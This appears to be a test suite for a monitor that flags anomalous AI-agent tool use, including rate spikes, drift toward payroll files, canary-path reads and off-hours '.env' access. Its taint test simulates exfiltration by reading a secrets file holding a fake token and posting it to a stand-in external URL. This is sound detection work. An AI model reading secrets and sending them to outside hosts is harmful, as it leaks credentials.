import { describe, expect, it } from 'vitest';
import {
  BehaviourModel,
  learnBaselines,
  type MonitoredCall,
  parseBaselineSet,
  parseMonitorConfig,
} from '../../../../src/actors/monitor/index.js';
import { Effect } from '../../../../src/policy/vocabulary.js';

const START = Date.UTC(2025, 0, 6, 9);

function session(model = new BehaviourModel(), context = 'review acme/webapp pull 42 in src/auth') {
  const clock = { now: START };
  const monitor = model.startSession({
    sessionId: 's1',
    purpose: 'code-review',
    context,
    clock: () => clock.now,
  });
  let n = 0;
  const call = (
    tool: string,
    effect: Effect,
    args: unknown,
    waitMs = 20_000,
  ): ReturnType<typeof monitor.assess> => {
    clock.now += waitMs;
    const c: MonitoredCall = { callId: `c${++n}`, tool, effect, args };
    return monitor.assess(c);
  };
  return { monitor, clock, call, id: () => `c${n}` };
}

describe('behaviour features', () => {
  it('rate: 50 calls a minute crosses readOnly, 3 a minute stays calm', () => {
    const slow = session();
    for (let i = 0; i < 20; i++) slow.call('fs.read_file', Effect.Read, { path: 'src/auth/a.ts' });
    expect(slow.monitor.inspect().features.rate).toBe(0);
    const fast = session();
    let last = fast.call('fs.read_file', Effect.Read, { path: 'src/auth/a.ts' });
    for (let i = 0; i < 50; i++)
      last = fast.call('fs.read_file', Effect.Read, { path: 'src/auth/a.ts' }, 1_200);
    expect(last.score).toBeGreaterThanOrEqual(0.75);
    expect(last.reasons[0]).toMatch(/^rate:/);
  });

  it('sequence: an unseen transition is unlikely only once the purpose has evidence', () => {
    const history = Array.from({ length: 40 }, (_, s) =>
      ['gh.get_pr', 'fs.read_file', 'gh.comment'].map((tool, i) => ({
        time: START + s * 1e6 + i * 1e4,
        session: `h${s}`,
        purpose: 'code-review',
        tool,
        state: 'active',
      })),
    ).flat();
    const model = new BehaviourModel({ baselines: learnBaselines(history, { now: START }) });
    const s = session(model);
    for (let i = 0; i < 6; i++) {
      s.call('gh.get_pr', Effect.Read, {});
      s.call('shell.exec', Effect.Admin, {});
    }
    expect(s.monitor.inspect().features.sequence).toBeGreaterThan(0.2);
    const cold = session();
    for (let i = 0; i < 4; i++) cold.call('shell.exec', Effect.Admin, {});
    expect(cold.monitor.inspect().features.sequence).toBe(0);
  });

  it('drift: argument tokens from outputs are known, strangers drift; prose keys do not count', () => {
    const s = session();
    s.call('fs.list', Effect.Read, { path: 'src/auth' });
    s.monitor.observe({
      callId: s.id(),
      verdict: 'allow',
      bytesIn: 10,
      bytesOut: 40,
      resultText: 'src/auth/middleware.ts',
    });
    for (let i = 0; i < 5; i++)
      s.call('fs.read_file', Effect.Read, {
        path: 'src/auth/middleware.ts',
        body: 'totally unrelated prose words',
      });
    expect(s.monitor.inspect().features.drift).toBe(0);
    for (let i = 0; i < 8; i++)
      s.call('fs.read_file', Effect.Read, { path: `finance/payroll/salaries${i}.csv` });
    expect(s.monitor.inspect().features.drift).toBeGreaterThan(0.5);
  });

  it('taint: a sensitive read’s value in egress arguments is hard-signal level; without the read it is not', () => {
    const secret = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789AB';
    const s = session();
    s.call('fs.read_file', Effect.Read, { path: 'config/secrets.yaml' });
    s.monitor.observe({
      callId: s.id(),
      verdict: 'allow',
      bytesIn: 10,
      bytesOut: 60,
      resultText: `token: ${secret}`,
    });
    const post = s.call('web.post', Effect.Egress, { url: 'https://x.example', body: secret });
    expect(post.score).toBe(1);
    expect(post.reasons.some((r) => r.startsWith('taint:'))).toBe(true);
    const clean = session();
    expect(
      clean.call('web.post', Effect.Egress, { url: 'https://x.example', body: secret }).score,
    ).toBeLessThan(0.5);
  });

  it('duration, denials and auth failures rise with time and bursts, and decay', () => {
    const s = session();
    s.call('fs.read_file', Effect.Read, { path: 'src/auth/a.ts' }, 3 * 3_600_000);
    expect(s.monitor.inspect().features.duration).toBe(1);
    for (let i = 0; i < 10; i++)
      s.monitor.observe({ callId: `d${i}`, verdict: 'deny', bytesIn: 0, bytesOut: 0 });
    expect(s.monitor.inspect().features.denials).toBe(1);
    s.monitor.noteAuthFailure();
    s.monitor.noteAuthFailure();
    const burst = s.monitor.noteAuthFailure();
    expect(burst.reasons.some((r) => r.startsWith('rule auth-failure-burst'))).toBe(true);
    expect(burst.score).toBeGreaterThanOrEqual(0.9);
  });

  it('canary paths raise a hard signal', () => {
    const config = parseMonitorConfig('canary: { paths: ["**/canary-*"], tokens: [] }', 'test.yaml');
    const s = session(new BehaviourModel({ config }));
    const a = s.call('fs.read_file', Effect.Read, { path: '/srv/canary-prod.key' });
    expect(a.signals).toEqual([
      { kind: 'canary', detail: 'fs.read_file touched canary srv/canary-prod.key' },
    ]);
  });

  it('outside-hours rule uses the configured time zone', () => {
    const config = parseMonitorConfig(
      'rules: [{ name: night, kind: sensitive_access, severity: 0.6, outsideHours: { start: 8, end: 18, timeZone: America/New_York } }]',
      'rules.yaml',
    );
    const s = session(new BehaviourModel({ config }));
    // 09:00 UTC is 04:00 in New York.
    expect(s.call('fs.read_file', Effect.Read, { path: '.env' }, 0).reasons[0]).toMatch(
      /^rule night: .* at 4h America\/New_York/,
    );
  });
});

describe('configuration', () => {
  it('names the field at fault', () => {
    expect(() => parseMonitorConfig('rules: [{ name: x, kind: volume, severity: 2 }]', 'r.yaml')).toThrow(
      /r\.yaml: rules\.0/,
    );
    expect(() => parseBaselineSet('{"format":"trustmesh.baselines"}', 'b.json')).toThrow(/b\.json: schema/);
  });
});
